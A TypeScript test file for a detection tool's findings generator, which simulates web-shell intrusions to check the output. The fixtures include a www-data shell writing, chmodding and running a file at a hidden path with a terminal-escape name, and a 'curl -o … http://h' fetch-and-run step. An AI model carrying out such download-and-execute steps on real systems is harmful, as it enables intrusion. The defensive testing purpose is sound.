import { type Finding, findingLine } from "@limpid/core";
import { describe, expect, it } from "vitest";
import findingSchema from "../../../core/src/json/finding.schema.json" with { type: "json" };
import { schemaErrors } from "../../../core/src/testing/json-schema.ts";
import { elf, GONE } from "../testing/elf.ts";
import { judge, type Story, webShell } from "../testing/judging.ts";
import { makeFinding } from "./finding.ts";

const about = "/tmp/.x/agent\u001b[2J\udcff";

const STORY: Story = {
  told: "cat writes for a shell, the file runs",
  about,
  tell: (scene) => {
    const shell = webShell(scene).create(about);
    shell.vfork().exec("/usr/bin/cat", "cat payload").exit();
    shell.fork().exec("/usr/bin/chmod", "chmod").chmod(about).exit();
    shell.fork().exec(about, [about, "--key=x"]);
  },
};

describe("makeFinding", () => {
  const judgement = judge(STORY);
  if (judgement === undefined) throw new Error("no judgement");
  const finding = makeFinding(judgement, "0.1.0", "sha256:00");

  it("is what the schema promises, hostile names included", () => {
    expect(schemaErrors(findingSchema, JSON.parse(findingLine(finding)))).toEqual([]);
  });

  it("holds exactly the keys of the contract", () => {
    // An exercise and a container are not in every finding.
    const { exercise: _, containerNames: __, ...always } = findingSchema.properties;
    expect(Object.keys(finding)).toEqual(Object.keys(always));
  });

  it("names the inferred writer, the shell that opened the file, and the ancestors", () => {
    expect(finding.creator).toMatchObject({ basis: "inherited-fd", image: "/usr/bin/cat", role: "copy-tool" });
    expect(finding.creator.user).toEqual({ uid: 33, name: "www-data" });
    expect(finding.creator.auid).toBeNull();
    expect(finding.creator.opener).toMatchObject({ image: "/usr/bin/dash", role: "non-user-shell" });
    expect(finding.lineage.map(({ image }) => image).slice(0, 2)).toEqual(["/usr/bin/dash", "/usr/bin/python3.11"]);
    expect(finding.executions).toHaveLength(1);
    expect(finding.timeline.map(({ what }) => what)).toEqual(["created", "mode-changed", "executed"]);
  });

  it("says in which container it was made, or else run", () => {
    const containerOf = (about: Story["tell"]) => {
      const judgement = judge({ ...STORY, tell: about });
      return judgement === undefined ? undefined : makeFinding(judgement, "0.1.0", "sha256:00").container;
    };
    const id = "4f".repeat(32);
    expect(finding.container).toBeNull();
    expect(containerOf((scene) => webShell(scene).as({ container: id }).create(about).chmod(about))).toBe(id);
    const ran = containerOf((scene) => {
      webShell(scene).create(about).chmod(about).fork().as({ container: id }).exec(about);
    });
    expect(ran).toBe(id);
  });

  it("says null for bytes that were not inspected, and leaves out what nobody said", () => {
    const blind = judge({ ...STORY, bytes: GONE });
    if (blind === undefined) throw new Error("no judgement");
    const { artifact } = makeFinding(blind, "0.1.0", "sha256:00");
    expect(artifact).toEqual({ path: about, previousPaths: [], inspected: false, opacity: null, facts: {} });
  });

  it("has the same id in every replay and as it grows, and another one for another birth", () => {
    const again = judge(STORY);
    const grown = judge({
      ...STORY,
      tell: (scene) => {
        STORY.tell(scene);
        scene.wait(100);
        scene.process({ image: "/usr/bin/rm" }).unlink(about);
      },
      bytes: elf(),
    });
    const other = judge({ ...STORY, tell: (scene) => STORY.tell(scene.wait(1)) });
    const id = (of: typeof again): string | undefined => of && makeFinding(of, "9", "sha256:1").id;
    expect(id(again)).toBe(finding.id);
    expect(id(grown)).toBe(finding.id);
    expect(id(other)).not.toBe(finding.id);
    expect(finding.id).toMatch(/^[0-9a-f]{24}$/);
  });
});

it("is tagged with the label of an exercise, and judged as if it had none", () => {
  const drop = (folder: string): Finding => {
    const story: Story = {
      told: "a shell's curl fetches a program and runs it",
      about: `${folder}/agent`,
      tell: (scene) => {
        const shell = webShell(scene);
        shell.fork().exec("/usr/bin/curl", `curl -o ${folder}/agent http://h`).create(`${folder}/agent`).exit();
        shell.fork().exec(`${folder}/agent`);
      },
    };
    const judgement = judge(story);
    if (judgement === undefined) throw new Error("no finding");
    return makeFinding(judgement, "0.1.0", "sha256:00");
  };
  const [plain, known, borrowed] = [
    drop("/var/tmp/work"),
    drop("/var/tmp/limpid-exercise-00000000000000ff"),
    drop("/var/tmp/limpid-exercise-0123456789abcdef"),
  ];
  expect([plain.exercise, known.exercise, borrowed.exercise]).toEqual([
    undefined,
    "00000000000000ff",
    "0123456789abcdef",
  ]);
  expect([known.score, known.priority]).toEqual([plain.score, plain.priority]);
  expect(borrowed.score).toBeGreaterThan(plain.score);
});
